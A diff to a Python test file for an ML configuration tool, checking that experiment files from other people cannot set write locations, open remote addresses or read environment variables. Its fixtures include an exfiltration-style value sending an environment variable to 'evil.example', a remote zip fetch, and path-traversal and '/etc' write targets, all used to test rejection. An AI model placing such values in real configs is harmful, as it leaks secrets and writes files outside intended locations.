@@ -72,9 +72,9 @@ def test_what_is_typed_reads_the_environment_whatever_else_is_composed(tmp_path:
 
 
 def test_text_that_looks_like_an_interpolation_stays_text(tmp_path: Path) -> None:
-    folder = experiment(tmp_path, {"logger": {"wandb": {"entity": "\\${oc.env:S}", "project": "\\\\\\${oc.env:S}"}}})
+    folder = experiment(tmp_path, {"logger": {"wandb": {"notes": "\\${oc.env:S}", "project": "\\\\\\${oc.env:S}"}}})
     config = check(compose(["logger=wandb", "experiment=theirs"], folder))
-    assert config.logger["wandb"]["entity"] == "${oc.env:S}"
+    assert config.logger["wandb"]["notes"] == "${oc.env:S}"
     again = check(rules.undumped(rules.dump(config), "config.yaml"))
     assert again.logger == config.logger
     assert CANARY not in str(again.logger)
@@ -149,6 +149,7 @@ WRITES = {
     "callbacks.extra": [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": "here"}],
     "logger.csv": {"prefix": "/etc/x"},
     "logger.wandb": {"dir": "elsewhere"},
+    "logger.mlflow": {"tracking_uri": "sqlite:////tmp/x.db"},
     "run.dir": "/tmp/elsewhere",
     "run.root": "../..",
     "data.cache_dir": "/tmp/elsewhere",
@@ -167,7 +168,7 @@ def test_an_experiment_of_somebody_else_does_not_say_where_to_write(key: str, tm
     tree[first] = {rest[0]: WRITES[key]}
     folder = experiment(tmp_path, tree)
     words = ["logger=[csv,wandb]", "experiment=theirs"]
-    with pytest.raises(UserError, match=rf"^{first}\..*theirs\.yaml says where to write"):
+    with pytest.raises(UserError, match=rf"theirs\.yaml sets {first}\..*counts only where you type it"):
         compose(words, folder)
     environment.trust([tmp_path / "experiment" / "theirs.yaml"])
     compose(words, folder)
@@ -185,7 +186,7 @@ ADDRESSES: dict[str, object] = {
 def test_an_experiment_of_somebody_else_has_no_address_opened(key: str, tmp_path: Path) -> None:
     folder = experiment(tmp_path, {"data": {key.removeprefix("data."): ADDRESSES[key]}})
     words = ["data=text", "experiment=theirs"]
-    with pytest.raises(UserError, match=rf"^{key}.*://.*theirs\.yaml has an address opened"):
+    with pytest.raises(UserError, match=rf"theirs\.yaml sets {key}.*://.*no address"):
         compose(words, folder)
     if isinstance(ADDRESSES[key], str):
         compose([*words, f"{key}='{ADDRESSES[key]}'"], folder)
@@ -203,7 +204,7 @@ def test_local_data_of_an_experiment_is_read(tmp_path: Path) -> None:
 def test_the_space_of_a_sweep_of_somebody_else_is_looked_through(key: str, value: str, tmp_path: Path) -> None:
     folder = experiment(tmp_path, {"sweep": {"space": {key: value}}})
     words = ["sweep=grid", "data=text", "experiment=theirs", f"sweep.root={tmp_path}"]
-    with pytest.raises(UserError, match=rf"^{key}=.*theirs\.yaml"):
+    with pytest.raises(UserError, match=rf"theirs\.yaml sets {key}=.*counts only where you type it"):
         sweep_plan.make("train", words, folder, "config")
     environment.trust([tmp_path / "experiment" / "theirs.yaml"])
     assert sweep_plan.make("train", words, folder, "config").swept
@@ -212,7 +213,7 @@ def test_the_space_of_a_sweep_of_somebody_else_is_looked_through(key: str, value
 def test_a_place_behind_another_key_is_seen(tmp_path: Path) -> None:
     entry = [{"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "filename": "../../x"}]
     folder = experiment(tmp_path, {"callbacks": {"extra": "${mine}"}, "mine": entry})
-    with pytest.raises(UserError, match=r"callbacks\.extra\.0\.filename=\.\./\.\./x: .*theirs\.yaml"):
+    with pytest.raises(UserError, match=r"theirs\.yaml sets callbacks\.extra=.*\.\./\.\./x"):
         compose(["experiment=theirs"], folder)
 
 
@@ -247,9 +248,9 @@ def test_an_empty_cache_is_not_the_working_folder(monkeypatch: pytest.MonkeyPatc
 
 PIPELINES = {
     "reads the environment there": "'data.path=https://evil.example/?k=${oc.env:S}'",
-    "says where to write": "'callbacks.extra=[{_target_: lightning.pytorch.callbacks.ModelCheckpoint, dirpath: /x}]'",
-    "data.cache_dir=/x: ": "data.cache_dir=/x",
-    "has an address opened": "'data.path=zip://a.txt::https://evil.example/b.zip'",
+    "sets callbacks.extra=[{": "'callbacks.extra=[{_target_: lightning.pytorch.callbacks.Timer, dirpath: /x}]'",
+    'sets data.cache_dir="/x"': "data.cache_dir=/x",
+    "no address": "'data.path=zip://a.txt::https://evil.example/b.zip'",
 }
 
 
